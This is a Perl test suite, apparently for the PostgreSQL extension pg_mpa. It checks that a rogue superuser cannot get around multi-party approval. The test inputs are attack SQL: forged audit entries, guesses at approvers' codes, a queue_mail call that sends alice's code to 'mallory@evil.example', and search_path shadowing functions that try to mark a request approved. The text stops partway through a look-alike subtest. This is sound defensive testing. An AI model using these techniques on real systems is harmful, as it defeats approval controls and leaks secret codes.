# Containment: a superuser who is not an approver (mallory) attacks a cluster
# that team "security" governs. pg_mpa's promise is that such a DBA, with
# every power PostgreSQL gives a superuser, still gets no approval, no vote,
# no code and no mail redirect without the approvers, by any SQL route:
#   - pg_mpa's internal functions (schema mpa) cannot be called from outside
#     pg_mpa's own public functions (SQLSTATE MP010), however they are called
#     (typed, DO block, SQL function, PL/pgSQL function): REVOKE EXECUTE does
#     not bind a superuser, and each of them runs trusted;
#   - pg_mpa's objects cannot be replaced, extended, inherited from, indexed
#     with foreign code or referenced, and a built-in cannot be replaced,
#     ALTER SYSTEM and predefined-role grants need the governing team (MP001);
#   - functions and operators that shadow what pg_mpa's SQL uses (now(),
#     current_setting(text), = on bigint) never run inside pg_mpa, whether the
#     search_path comes from SET, ALTER ROLE or ALTER DATABASE (the worker);
#   - session_replication_role, set without SET, silences none of pg_mpa's
#     triggers and opens none of its tables;
#   - an ordinary login (or a superuser) cannot make a look-alike of a
#     configuration function for pg_mpa to run (as a superuser) while
#     rehearsing a request.
# Every attack is asserted by pg_mpa's SQLSTATE (never PostgreSQL's
# "permission denied", which a superuser does not meet), and after every
# attack the invariants are checked: nothing approved, the protected table
# intact, no mail to the attacker, pg_mpa's tables and objects unchanged.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use MpaTest;

my $smtp = MpaTest::start_smtp();
# wal_level = replica so that a replication slot can be created at all: the
# look-alike attack below creates one, and its absence must be pg_mpa's doing.
# Codes live an hour: the one opened at set-up must stay open throughout.
my $node = MpaTest::new_node('containment', $smtp, <<'CONF');
mpa.resend_cooldown = 0
mpa.otp_ttl = 3600
mpa.smtp_password = 'sekret-smtp-password'
wal_level = replica
max_replication_slots = 4
CONF

$node->safe_psql('postgres', q{
	CREATE ROLE alice LOGIN PASSWORD 'alice-password';
	CREATE ROLE bob LOGIN;
	CREATE ROLE rita LOGIN;
	CREATE ROLE mallory SUPERUSER LOGIN;
	CREATE ROLE mallory2 LOGIN;
	CREATE ROLE olivia LOGIN;
	SELECT mpa_team_create('security', 2);
	SELECT mpa_approver_add('security', 'alice', 'alice@example.com');
	SELECT mpa_approver_add('security', 'bob', 'bob@example.com');
	CREATE SCHEMA prod;
	CREATE TABLE prod.accounts (id int PRIMARY KEY, owner text);
	INSERT INTO prod.accounts VALUES (1, 'alpha'), (2, 'beta'), (3, 'gamma');
	GRANT USAGE ON SCHEMA prod TO rita;
	GRANT SELECT ON prod.accounts TO rita;
	-- A table no policy protects yet: the replica-mode test protects it by
	-- an approved configuration change.
	CREATE TABLE public.canary (i int);
	-- Where the attacker's shadowing functions record that they ran (a
	-- WARNING in the server log records it too, rolled back or not).
	CREATE TABLE public.evil_trace (what text, who text, at timestamptz);
	GRANT SELECT, INSERT ON public.evil_trace TO PUBLIC;
	-- A schema for a look-alike of a configuration function (refused below):
	-- if pg_mpa ran one while rehearsing a request, it would run as pg_mpa's
	-- owner and create a slot and read password verifiers.
	CREATE SCHEMA lookalike;
	GRANT USAGE ON SCHEMA lookalike TO PUBLIC;
	-- The policies and the team governing pg_mpa last, in one transaction:
	-- everything above is set up before governance starts.
	BEGIN;
	SELECT mpa_protect('DROP TABLE', 'prod.*', 'security');
	SELECT mpa_protect('TRUNCATE', 'prod.*', 'security');
	SELECT mpa_protect('MPA CONFIGURE', '*', 'security');
	COMMIT;
});

# A pending request (rita's), and an open challenge on it: alice asked for a
# code, which was mailed to her.
my $req = MpaTest::safe_psql_as($node, 'rita', q{SELECT mpa_request('DROP TABLE prod.accounts', 'x')});
like($req, qr/^\d+$/, "rita's request $req is pending");
like(MpaTest::safe_psql_as($node, 'alice', "SELECT mpa_vote($req, 'approve')"), qr/a code to approve request $req was sent/,
	'alice asked for a code');
ok(MpaTest::code_from_mail($smtp, 'alice@example.com', $req), 'and it was mailed to her');
my $challenge = $node->safe_psql('postgres',
	"SELECT id FROM mpa.challenges WHERE request_id = $req AND approver = 'alice'::regrole AND state = 'open'");
like($challenge, qr/^\d+$/, "alice's challenge $challenge is open");
# The worker records whether each team can still reach its threshold
# (mpa.teams.quorum_reachable) in its rounds: wait until it has, so that it
# does not change pg_mpa's tables in the middle of the attacks.
ok(MpaTest::poll_until($node, q{SELECT quorum_reachable IS NOT NULL FROM mpa.teams WHERE name = 'security'}, 30),
	"the worker has looked at the team's health");

# ---------------------------------------------------------------------------
# Helpers.

# Runs $sql as $role in a new session, errors verbose (with their SQLSTATE),
# stopping at the first error unless on_error_stop => 0.
# Returns ($rc, $stdout, $stderr).
sub run_as
{
	my ($role, $sql, %opt) = @_;
	return MpaTest::psql_as($node, $role, "\\set VERBOSITY verbose\n$sql", %opt);
}

# The SQLSTATE of the first error in $err, or what happened instead.
sub first_sqlstate
{
	my ($rc, $err) = @_;
	my ($state) = $err =~ /(?:ERROR|FATAL):\s+([0-9A-Z]{5}):/;
	return $state if defined $state;
	return 'no error (it ran)' if $rc == 0;
	my ($line) = split /\n/, $err;
	return 'no SQLSTATE: ' . ($line // '');
}

sub first_lines
{
	my ($text, $n) = @_;
	my @lines = split /\n/, $text // '';
	$n //= 6;
	return join("\n", @lines > $n ? (@lines[0 .. $n - 1], '...') : @lines);
}

# Runs the attack $sql as $role and checks that it was refused with pg_mpa's
# SQLSTATE $expected. Returns ($rc, $state, $stdout, $stderr).
sub expect_refusal
{
	my ($expected, $role, $sql, $name, %opt) = @_;
	my ($rc, $out, $err) = run_as($role, $sql, %opt);
	my $state = first_sqlstate($rc, $err);
	is($state, $expected, "$name: refused with SQLSTATE $expected")
	  or diag("rc $rc\nstdout: " . first_lines($out) . "\nstderr: " . first_lines($err));
	return ($rc, $state, $out, $err);
}

# SQL as postgres (a superuser, not an approver) with a search_path of its
# own: the attacks below put shadowing functions on other paths.
sub sql
{
	my ($query) = @_;
	return $node->safe_psql('postgres', "SET search_path = pg_catalog, public;\n$query");
}

# Runs statements as postgres and reports, without failing, what they said:
# used only to undo what an attack did when it was not refused (the old
# behaviour), so that each later attack is judged on its own.
sub undo
{
	my ($label, $query) = @_;
	my ($rc, $out, $err) = $node->psql('postgres', "SET search_path = pg_catalog, public;\n$query");
	diag("undoing $label: " . ($rc == 0 ? 'done' : first_lines($err, 2)));
}

my @legit;    # requests approved and executed on purpose (the replica-mode test)
my $log_offset = 0;

# Everything the invariants look at, now.
sub current_state
{
	# A worker round changing a team's recorded reachability is no attack.
	MpaTest::wait_for_team_health($node);
	my %s;
	my $legit = '{' . join(',', @legit) . '}';
	my $query = q{
		SELECT
		  (SELECT coalesce(string_agg(id::text, ',' ORDER BY id), 'none') FROM mpa.requests
		    WHERE state IN ('approved', 'executed') AND id <> ALL ('__LEGIT__'::bigint[])),
		  (SELECT count(*) FROM mpa.outbox WHERE recipient ~* '(@evil[.]example$|^mallory@)'),
		  (SELECT count(*) FROM mpa.audit WHERE request_id = __REQ__ AND kind IN ('approved', 'executed')),
		  (SELECT coalesce(string_agg(inhrelid::regclass::text || ' < ' || inhparent::regclass::text, ',' ORDER BY 1), 'none')
		     FROM pg_inherits WHERE inhparent IN (SELECT oid FROM pg_class WHERE relnamespace = 'mpa'::regnamespace)),
		  (SELECT coalesce(string_agg(slot_name::text, ',' ORDER BY 1), 'none') FROM pg_replication_slots),
		  (SELECT count(*) FROM public.evil_trace),
		  (SELECT md5(string_agg(t, '|' ORDER BY t)) FROM (__STATE_ROWS__) s),
		  (SELECT md5(string_agg(p.oid::text || ' ' || p.proname || ' ' || p.prosrc || ' ' || p.prolang::text
		                         || ' ' || p.provolatile::text, ',' ORDER BY p.oid))
		     FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace),
		  (SELECT string_agg(r.rolname || ':' || r.rolsuper || ':' ||
		            coalesce((SELECT string_agg(g.rolname, '+' ORDER BY g.rolname) FROM pg_auth_members m
		                       JOIN pg_roles g ON g.oid = m.roleid WHERE m.member = r.oid), ''), ',' ORDER BY r.rolname)
		     FROM pg_roles r WHERE r.rolname IN ('alice', 'bob', 'rita', 'mallory', 'mallory2', 'olivia')),
		  to_regclass('prod.accounts') IS NOT NULL
	};
	$query =~ s/__LEGIT__/$legit/;
	$query =~ s/__STATE_ROWS__/MpaTest::state_rows_sql()/e;
	$query =~ s/__REQ__/$req/g;
	@s{qw(approved outbox_to_attacker forged_audit inheritors slots evil_trace tables builtins roles accounts)}
	  = split /\|/, sql($query);
	$s{accounts} = $s{accounts} eq 't'
	  ? sql(q{SELECT string_agg(id || ':' || owner, ',' ORDER BY id) FROM prod.accounts}) : 'missing';
	# pg_mpa's objects, and anything on or in schema mpa, listed one a line.
	$s{objects} = sql(q{
		WITH mpa_rel AS (SELECT oid FROM pg_class WHERE relnamespace = 'mpa'::regnamespace),
		     ext AS (SELECT oid FROM pg_extension WHERE extname = 'pg_mpa')
		SELECT string_agg(x, E'\n' ORDER BY x) FROM (
		  SELECT 'relation ' || relname || ' ' || relkind::text || ' rls=' || relrowsecurity || ' rules=' || relhasrules AS x
		    FROM pg_class WHERE relnamespace = 'mpa'::regnamespace
		  UNION ALL
		  SELECT 'function ' || p.oid::regprocedure::text || ' ' || md5(p.prosrc) || ' ' || l.lanname || ' '
		         || p.provolatile::text || ' secdef=' || p.prosecdef || ' ' || coalesce(array_to_string(p.proconfig, ','), '')
		    FROM pg_proc p JOIN pg_language l ON l.oid = p.prolang
		   WHERE p.pronamespace = 'mpa'::regnamespace
		      OR p.oid IN (SELECT objid FROM pg_depend WHERE classid = 'pg_proc'::regclass
		                    AND refclassid = 'pg_extension'::regclass AND refobjid = (SELECT oid FROM ext) AND deptype = 'e')
		  UNION ALL
		  SELECT 'trigger ' || tgrelid::regclass::text || ' ' || tgname || ' ' || tgfoid::regprocedure::text || ' ' || tgenabled::text
		    FROM pg_trigger WHERE tgrelid IN (SELECT oid FROM mpa_rel)
		  UNION ALL
		  SELECT 'rule ' || ev_class::regclass::text || ' ' || rulename FROM pg_rewrite
		   WHERE ev_class IN (SELECT oid FROM mpa_rel) AND rulename <> '_RETURN'
		  UNION ALL
		  SELECT 'policy ' || polrelid::regclass::text || ' ' || polname FROM pg_policy WHERE polrelid IN (SELECT oid FROM mpa_rel)
		  UNION ALL
		  SELECT 'statistics ' || stxnamespace::regnamespace::text || '.' || stxname || ' on ' || stxrelid::regclass::text
		    FROM pg_statistic_ext WHERE stxrelid IN (SELECT oid FROM mpa_rel) OR stxnamespace = 'mpa'::regnamespace
		  UNION ALL
		  SELECT 'constraint ' || conrelid::regclass::text || ' ' || conname || ' ' || contype::text
		         || coalesce(' -> ' || nullif(confrelid, 0)::regclass::text, '')
		    FROM pg_constraint WHERE conrelid IN (SELECT oid FROM mpa_rel) OR confrelid IN (SELECT oid FROM mpa_rel)
		  UNION ALL
		  SELECT 'type ' || typname FROM pg_type WHERE typnamespace = 'mpa'::regnamespace
		  UNION ALL
		  SELECT 'operator ' || oid::regoperator::text FROM pg_operator WHERE oprnamespace = 'mpa'::regnamespace
		  UNION ALL
		  SELECT 'extension members ' || count(*) FROM pg_depend
		   WHERE refclassid = 'pg_extension'::regclass AND refobjid = (SELECT oid FROM ext) AND deptype = 'e') s});
	$s{mail_to_attacker} = scalar grep {
		grep { /\@evil\.example$|^mallory\@/i } @{ $_->{to} }
	} MpaTest::stored_mail($smtp);
	$s{auto_conf} = slurp_file($node->data_dir . '/postgresql.auto.conf');
	# Code of the attacker's that ran says so with a WARNING, which the
	# server log keeps even when its transaction rolled back. Only the lines
	# logged since the last check count.
	my $log = slurp_file($node->logfile);
	my @ran = substr($log, $log_offset) =~ /WARNING:\s+((?:EVIL|LOOKALIKE|MALLORY CODE) RAN[^\n]*)/g;
	$s{foreign_code} = @ran ? join('; ', @ran[0 .. ($#ran < 2 ? $#ran : 2)]) : 'none';
	$s{log_length} = length $log;
	return %s;
}

# The invariants: [key, what it means, value before the attacks (undef:
# whatever it was), whether that value is required after every attack]. The
# others must be as at the previous check: after a breach (the old
# behaviour) a mail sent or an audit entry written cannot be taken back, and
# each later attack is judged by what it added.
my @invariants = (
	[ approved => 'no request is approved or executed', 'none', 1 ],
	[ accounts => 'prod.accounts exists with its rows', '1:alpha,2:beta,3:gamma', 1 ],
	[ inheritors => "no table inherits from one of pg_mpa's tables", 'none', 1 ],
	[ slots => 'no replication slot exists', 'none', 1 ],
	[ evil_trace => 'no shadowing function recorded that it ran', '0', 1 ],
	[ foreign_code => "no attacker's code ran (server log)", 'none', 1 ],
	[ outbox_to_attacker => 'no mail to the attacker is queued', '0', 0 ],
	[ mail_to_attacker => 'no mail reached the attacker', '0', 0 ],
	[ forged_audit => "no audit entry says rita's request was approved or executed", '0', 0 ],
	[ tables => "pg_mpa's tables (but mpa.audit and mpa.outbox) are unchanged", undef, 0 ],
	[ objects => "pg_mpa's objects are unchanged and nothing was added in or on schema mpa", undef, 0 ],
	[ builtins => 'the built-in functions are unchanged', undef, 0 ],
	[ auto_conf => 'postgresql.auto.conf is unchanged', undef, 0 ],
	[ roles => 'role attributes and memberships are unchanged', undef, 0 ],
);
my %baseline = current_state();
$log_offset = $baseline{log_length};
for my $inv (@invariants)
{
	my ($key, $what, $initial) = @$inv;
	is($baseline{$key}, $initial, "before the attacks: $what") if defined $initial;
}

# After a breach only (the old behaviour): puts back what later attacks
# rely on, so that each is judged on its own. Never runs while pg_mpa holds.
sub repair
{
	my ($state) = @_;
	my $legit = '{' . join(',', @legit) . '}';
	undo('approvals', "SELECT mpa.finish(r, 'pending', 'test: put back after a breach') FROM mpa.requests r
		WHERE state IN ('approved', 'executed') AND id <> ALL ('$legit'::bigint[])")
	  if $state->{approved} ne 'none';
	undo('prod.accounts', q{CREATE TABLE prod.accounts (id int PRIMARY KEY, owner text);
		INSERT INTO prod.accounts VALUES (1, 'alpha'), (2, 'beta'), (3, 'gamma')})
	  if $state->{accounts} eq 'missing';
	undo('inheritors', q{DO $$DECLARE c regclass; BEGIN
		FOR c IN SELECT inhrelid::regclass FROM pg_inherits
		          WHERE inhparent IN (SELECT oid FROM pg_class WHERE relnamespace = 'mpa'::regnamespace) LOOP
		  EXECUTE format('DROP TABLE %s', c);
		END LOOP; END$$})
	  if $state->{inheritors} ne 'none';
	undo('slots', 'SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots')
	  if $state->{slots} ne 'none';
	undo('trace', 'DELETE FROM public.evil_trace') if $state->{evil_trace} ne '0';
}

# Checks every invariant after the attack $label. Keys in $opt{changes} may
# have changed legitimately (pg_mpa's public functions did it): they are
# not checked, only taken as the new baseline. $opt{undo} ([what, SQL]),
# given when the attack was not refused, is run after the checks.
sub check_invariants
{
	my ($label, %opt) = @_;
	my %allowed = map { $_ => 1 } @{ $opt{changes} // [] };
	my %now = current_state();
	my $breach = 0;
	for my $inv (@invariants)
	{
		my ($key, $what, $initial, $always) = @$inv;
		next if $allowed{$key};
		my $want = $always ? $initial : $baseline{$key};
		my $ok;
		if ($key eq 'objects' || $key eq 'auto_conf')
		{
			# Long values: name the lines that differ.
			$ok = ok($now{$key} eq $want, "after $label: $what");
			unless ($ok)
			{
				my %was = map { $_ => 1 } split /\n/, $want;
				my %is = map { $_ => 1 } split /\n/, $now{$key};
				diag(join("\n", (map { "  + $_" } grep { !$was{$_} } sort keys %is),
						(map { "  - $_" } grep { !$is{$_} } sort keys %was)));
			}
		}
		else
		{
			$ok = is($now{$key}, $want, "after $label: $what");
		}
		$breach ||= !$ok;
	}
	undo(@{ $opt{undo} }) if $opt{undo};
	if ($breach || $opt{undo})
	{
		repair(\%now);
		%now = current_state();
	}
	$log_offset = $now{log_length};
	%baseline = %now;
}

# ---------------------------------------------------------------------------
# 1. pg_mpa's internal functions (schema mpa) called from outside pg_mpa's
# public functions: MP010. Each one runs trusted (it may write mpa.*), and
# REVOKE EXECUTE does not bind a superuser. Each is tried typed, from a DO
# block, from a SQL function and from a PL/pgSQL function of mallory's: the
# class of call, not one spelling. The least destructive come first.
my @internal = (
	# A forged audit entry: "rita's request was executed".
	[ 'mpa.audit (a forged audit entry)', "SELECT mpa.audit('executed', $req, '{}')" ],
	# The code check counts a try against alice's code: guessing burns her
	# tries (three kill the code) and probes codes without being an approver.
	[ 'mpa.check_code (guessing alice\'s code)', "SELECT mpa.check_code($challenge, '000000')" ],
	# The request's row lock, taken outside pg_mpa's own flow.
	[ 'mpa.lock_request', "SELECT mpa.lock_request($req)" ],
	# Runs any text as a configuration call, with configuration unlocked.
	[ 'mpa.rehearse_configuration', "SELECT mpa.rehearse_configuration('SELECT 1')" ],
	# Runs an approved configuration request (here: rita's, which is not one).
	[ 'mpa.execute_configuration', "SELECT mpa.execute_configuration($req)" ],
	# Opens a request with any search_path and valid_for, bypassing mpa_request.
	[ 'mpa.create_request', "SELECT mpa.create_request('DROP TABLE prod.accounts', 'x', 'public', NULL)" ],
	# Queues a code mail for alice's challenge to the attacker's address: the
	# worker would render alice's valid code into it.
	[ 'mpa.queue_mail (alice\'s code to the attacker)',
		"SELECT mpa.queue_mail('code', 'mallory\@evil.example', 'your code', 'code: {{code}}', 600, NULL, $challenge)" ],
	# Claims rita's approval for another database's transaction of the
	# caller's (an xid in progress holds it executing: nobody may spend it).
	[ 'mpa.claim_execution (holding an approval)',
		"SELECT mpa.claim_execution(1, 'billing', 'rita', 'x', '{}', '{}', '{}', '{}', pg_current_xact_id())" ],
	# Runs a request's statement in another database without mpa_execute's checks.
	[ 'mpa.run_approved_statement_elsewhere', "SELECT mpa.run_approved_statement_elsewhere($req, 'public')" ],
	# Closes rita's request as approved, with no vote at all.
	[ 'mpa.finish (approving without votes)',
		"SELECT mpa.finish(r, 'approved', 'x') FROM mpa.requests r WHERE id = $req" ],
	# Approves rita's request as if the break-glass quorum had voted.
	[ 'mpa.break_glass_approved (approving without break-glass votes)',
		"SELECT mpa.break_glass_approved(r) FROM mpa.requests r WHERE id = $req" ],
);
my $n = 0;
for my $case (@internal)
{
	my ($name, $call) = @$case;
	(my $perform = $call) =~ s/^SELECT /PERFORM /;
	$n++;
	my @ways = (
		[ 'typed', $call ],
		[ 'in a DO block', "DO \$do\$BEGIN $perform; END\$do\$" ],
		[ 'in a SQL function',
			"CREATE FUNCTION public.m_sql_$n() RETURNS void LANGUAGE sql AS \$body\$ $call \$body\$;\n"
			  . "SELECT public.m_sql_$n()" ],
		[ 'in a PL/pgSQL function',
			"CREATE FUNCTION public.m_plpgsql_$n() RETURNS void LANGUAGE plpgsql AS \$body\$BEGIN $perform; END\$body\$;\n"
			  . "SELECT public.m_plpgsql_$n()" ]);
	for my $way (@ways)
	{
		my ($how, $sql) = @$way;
		subtest "MP010: $name, $how" => sub {
			expect_refusal('MP010', 'mallory', $sql, "mallory calls $name $how");
			check_invariants("$name $how");
		};
	}
}

# ---------------------------------------------------------------------------
# 2. session_replication_role without SET: replica mode silences ordinary
# (and foreign-key) triggers, pg_mpa's included: its policy cache would not
# hear of a committed policy change. The gate refuses SET of it once
# governed; set_config() and a connection option are not statements.

my $trigger_states = q{SELECT string_agg(tgrelid::regclass::text || '.' || tgname || '=' || tgenabled::text, ',' ORDER BY 1)
	FROM pg_trigger WHERE tgrelid IN (SELECT oid FROM pg_class WHERE relnamespace = 'mpa'::regnamespace)};

subtest 'session_replication_role: pg_mpa\'s triggers fire always' => sub {
	my $states = sql($trigger_states);
	unlike($states, qr/=[^A,]/, "every trigger on pg_mpa's tables is enabled ALWAYS (tgenabled 'A')")
	  or diag($states);
};

subtest 'session_replication_role by set_config(), then writes to mpa.*' => sub {
	# Whether set_config() is refused (MP001) or accepted, every write to
	# pg_mpa's tables is refused with MP001.
	my ($rc, $out, $err) = run_as('mallory', qq{
		SELECT set_config('session_replication_role', 'replica', false);
		UPDATE mpa.requests SET state = 'approved' WHERE id = $req;
		INSERT INTO mpa.votes VALUES ($req, 'bob', 'approve');
		DELETE FROM mpa.challenges;}, on_error_stop => 0);
	my @states = $err =~ /ERROR:\s+([0-9A-Z]{5}):/g;
	cmp_ok(scalar(grep { $_ eq 'MP001' } @states), '>=', 3, 'the three writes are refused with MP001')
	  or diag(first_lines($err, 12));
	is_deeply([ grep { $_ ne 'MP001' } @states ], [], 'and no other error occurred');
	check_invariants('set_config(session_replication_role)');
};

subtest 'session_replication_role by a connection option (PGOPTIONS)' => sub {
	local $ENV{PGOPTIONS} = '-c session_replication_role=replica';
	my ($rc, $out, $err) = run_as('mallory', qq{
		UPDATE mpa.requests SET state = 'approved' WHERE id = $req;
		INSERT INTO mpa.votes VALUES ($req, 'bob', 'approve');}, on_error_stop => 0);
	my @states = $err =~ /ERROR:\s+([0-9A-Z]{5}):/g;
	if ($rc == 2 && !@states)
	{
		# pg_mpa may refuse the connection itself: psql shows no SQLSTATE then.
		like($err, qr/session_replication_role/, 'the connection is refused, naming the setting');
	}
	else
	{
		is_deeply(\@states, [ 'MP001', 'MP001' ], 'both writes are refused with MP001')
		  or diag(first_lines($err, 12));
	}
	check_invariants('PGOPTIONS session_replication_role');
};

# The policy cache hears of an approved policy change made in replica mode.
# mallory asks to protect public.canary; alice and bob approve with the codes
# mailed to them; mallory executes it in a replica-mode session whose policy
# cache was loaded before, then drops the canary in the same session and in
# a new one: both are refused once the policy is in force.
subtest 'an approved policy change made in replica mode binds at once' => sub {
	my ($rc, $cfg, $err) = run_as('mallory',
		q{SELECT mpa_request($$SELECT mpa_protect('DROP TABLE', 'public.canary', 'security')$$, 'containment test')});
	like($cfg, qr/^\d+$/, "mallory's configuration request $cfg") or diag($err);
	for my $approver ('alice', 'bob')
	{
		MpaTest::safe_psql_as($node, $approver, "SELECT mpa_vote($cfg, 'approve')");
		my $code = MpaTest::code_from_mail($smtp, "$approver\@example.com", $cfg);
		like(MpaTest::safe_psql_as($node, $approver, "SELECT mpa_verify($cfg, '$code')"), qr/vote recorded/,
			"$approver approves request $cfg with the code from the mail");
	}
	is(sql("SELECT state FROM mpa.requests WHERE id = $cfg"), 'approved', 'the change is approved');
	push @legit, $cfg;
	{
		local $ENV{PGOPTIONS} = '-c session_replication_role=replica';
		($rc, my $out, $err) = run_as('mallory', qq{
			SHOW session_replication_role;
			DROP TABLE IF EXISTS public.never_existed;
			SELECT mpa_execute($cfg);
			DROP TABLE public.canary;}, on_error_stop => 0);
		diag("replica-mode session: rc $rc; session_replication_role " . ((split /\n/, $out)[0] // '?'));
		my @states = $err =~ /ERROR:\s+([0-9A-Z]{5}):/g;
		is_deeply([ grep { $_ ne 'MP001' } @states ], [], 'that session met no error but pg_mpa\'s MP001')
		  or diag(first_lines($err, 12));
	}
	if (sql("SELECT state FROM mpa.requests WHERE id = $cfg") ne 'executed')
	{
		# pg_mpa refused the replica-mode session: execute it normally.
		MpaTest::safe_psql_as($node, 'mallory', "SELECT mpa_execute($cfg)");
	}
	is(sql("SELECT state FROM mpa.requests WHERE id = $cfg"), 'executed', 'the change was executed');
	is(sql(q{SELECT to_regclass('public.canary') IS NOT NULL}), 't', 'the canary survived the session that made the change');
	expect_refusal('MP001', 'mallory', 'DROP TABLE public.canary', 'a new session drops the canary');
	unlike(sql($trigger_states), qr/=[^A,]/, "every trigger on pg_mpa's tables is still enabled ALWAYS");
	# Both addresses are confirmed now: the worker records that the team can
	# reach its threshold (before the tables are taken as the new baseline).
	ok(MpaTest::poll_until($node, q{SELECT quorum_reachable FROM mpa.teams WHERE name = 'security'}, 30),
		"the worker sees the team's quorum reachable");
	check_invariants('an approved policy change in replica mode', changes => ['tables']);
};

# ---------------------------------------------------------------------------
# 3. Name resolution. pg_mpa's SQL must resolve names in pg_catalog only:
# a now(), a current_setting(text) or an = on bigint placed earlier on the
# search_path would otherwise run inside pg_mpa, trusted, as mallory's code.
# The shadows here behave like the built-ins, but say that they ran
# (WARNING, and a row in public.evil_trace) and try to approve rita's request.

my $evil_setup = qq{
	CREATE SCHEMA evil;
	GRANT USAGE ON SCHEMA evil TO PUBLIC;
	CREATE FUNCTION evil.mark(what text) RETURNS void LANGUAGE plpgsql
	SET search_path = pg_catalog, pg_temp AS \$f\$
	BEGIN
	  RAISE WARNING 'EVIL RAN: % as %', what, current_user;
	  INSERT INTO public.evil_trace VALUES (what, current_user, clock_timestamp());
	  BEGIN
	    UPDATE mpa.requests SET state = 'approved' WHERE id = $req;
	  EXCEPTION WHEN others THEN NULL;
	  END;
	END \$f\$;
	CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql
	SET search_path = pg_catalog, pg_temp AS \$f\$BEGIN PERFORM evil.mark('now()'); RETURN now(); END\$f\$;
	CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql
	SET search_path = pg_catalog, pg_temp AS \$f\$BEGIN PERFORM evil.mark('current_setting'); RETURN current_setting(\$1); END\$f\$;
	CREATE FUNCTION evil.int8eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql
	SET search_path = pg_catalog, pg_temp AS \$f\$BEGIN PERFORM evil.mark('='); RETURN int8eq(\$1, \$2); END\$f\$;
	CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8eq);
};
my ($evil_rc, undef, $evil_err) = run_as('mallory', $evil_setup);
is($evil_rc, 0, 'mallory creates the shadowing functions and operator in schema evil') or diag($evil_err);

# mallory's calls of pg_mpa's public functions, with $prefix before each
# (a SET, or nothing when the path comes from the role or the database).
sub public_calls
{
	my ($label, $prefix) = @_;
	subtest "search_path $label: mpa_request and mpa_cancel" => sub {
		my ($rc, $id, $err) = run_as('mallory',
			"${prefix}SELECT public.mpa_request('DROP TABLE prod.accounts', 'y')");
		like($id, qr/^\d+$/, "mallory's request is made") or diag(first_lines($err));
		unlike($err, qr/EVIL RAN/, 'no shadowing function ran');
		($rc, undef, $err) = run_as('mallory', "${prefix}SELECT public.mpa_cancel($id)");
		is($rc, 0, 'and cancelled') or diag(first_lines($err));
		unlike($err, qr/EVIL RAN/, 'no shadowing function ran');
		check_invariants("mpa_request and mpa_cancel with search_path $label", changes => ['tables']);
	};
	subtest "search_path $label: mpa_vote and mpa_execute" => sub {
		# mallory may call these; she is neither an approver nor the requester.
		my (undef, undef, undef, $err) = expect_refusal('MP003', 'mallory',
			"${prefix}SELECT public.mpa_vote($req, 'approve')", 'mpa_vote by a non-approver');
		unlike($err, qr/EVIL RAN/, 'no shadowing function ran');
		(undef, undef, undef, $err) = expect_refusal('MP003', 'mallory',
			"${prefix}SELECT public.mpa_execute($req)", "mpa_execute of rita's request");
		unlike($err, qr/EVIL RAN/, 'no shadowing function ran');
		check_invariants("mpa_vote and mpa_execute with search_path $label");
	};
}

public_calls('set by SET', "SET search_path = evil, pg_catalog, public;\n");

# The same path as the role's default, in new sessions. The gate may refuse
# ALTER ROLE … SET search_path once governed (MP001); if it does, there is
# nothing more to try.
{
	my ($rc, undef, $err) = run_as('mallory', 'ALTER ROLE mallory SET search_path = evil, pg_catalog');
	if ($rc == 0)
	{
		pass('ALTER ROLE mallory SET search_path was accepted: new sessions must not run the shadows');
		public_calls('from ALTER ROLE', '');
		undo('the role\'s search_path', 'ALTER ROLE mallory RESET search_path');
	}
	else
	{
		is(first_sqlstate($rc, $err), 'MP001', 'ALTER ROLE mallory SET search_path is refused by pg_mpa');
	}
}

# The database's default search_path reaches the mail worker when it
# restarts: its SQL (now() in every round, = on ids) must not run the shadows.
# ALTER DATABASE … SET may itself be refused once governed: then its refusal
# must be pg_mpa's (MP001), and the worker is restarted all the same.
subtest 'search_path from ALTER DATABASE, and the mail worker restarted' => sub {
	is(sql(q{SELECT string_agg(backend_type, ',') FROM pg_stat_activity WHERE backend_type ~ 'mpa'}),
		'pg_mpa mail worker', "the worker's backend_type is 'pg_mpa mail worker'");
	my ($rc, undef, $err) = run_as('mallory', 'ALTER DATABASE postgres SET search_path = evil, pg_catalog');
	my $accepted = $rc == 0;
	if ($accepted)
	{
		pass('ALTER DATABASE postgres SET search_path was accepted: the worker must ignore it');
	}
	else
	{
		is(first_sqlstate($rc, $err), 'MP001', 'ALTER DATABASE postgres SET search_path is refused by pg_mpa');
	}
	my $restart = sub {
		my $old = sql(q{SELECT pid FROM pg_stat_activity WHERE backend_type = 'pg_mpa mail worker'});
		sql(q{SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type = 'pg_mpa mail worker'});
		ok(MpaTest::poll_until($node, "SET search_path = pg_catalog; SELECT count(*) = 1 FROM pg_stat_activity
			WHERE backend_type = 'pg_mpa mail worker' AND pid <> $old", 30), 'the mail worker restarted');
	};
	$restart->();
	my $mail = sql(q{SELECT mpa_mail_test('someone@example.com')});
	ok(MpaTest::wait_for_mail_matching($smtp, 'someone@example.com', qr/./, timeout => 30),
		"the restarted worker delivers a test mail (outbox $mail)");
	if ($accepted)
	{
		# Checked once the worker no longer runs with that path: what it did
		# meanwhile counts, and nothing it did afterwards.
		undo('the database\'s search_path', 'ALTER DATABASE postgres RESET search_path');
		$restart->();
	}
	check_invariants('the worker ran with the database\'s search_path');
};

# ---------------------------------------------------------------------------
# 4. Configuration look-alikes, by an ordinary login (olivia). mpa_request
# rehearses a configuration call by running it inside pg_mpa's SECURITY
# DEFINER code: a function that only looks like mpa_approver_add (its last
# name matches) would run as pg_mpa's owner, a superuser. The request is
# refused, or accepted as something other than MPA CONFIGURE; either way the
# look-alike never runs: no slot, nothing read from pg_authid.

# $strict: the request must not be accepted as MPA CONFIGURE. Otherwise, if
# it is, the approvers approve it and olivia executes it with the same
# search_path: the real function runs then, never the look-alike.
sub lookalike
{
	my ($label, $sql, $slot, $strict, $path) = @_;
	subtest "look-alike: $label" => sub {
		my ($rc, $out, $err) = run_as('olivia', $sql);
		unlike($err, qr/LOOKALIKE RAN/, 'the look-alike did not run') or diag(first_lines($err));
		unlike($err, qr/SCRAM-SHA-256\$/, 'no password verifier was read');
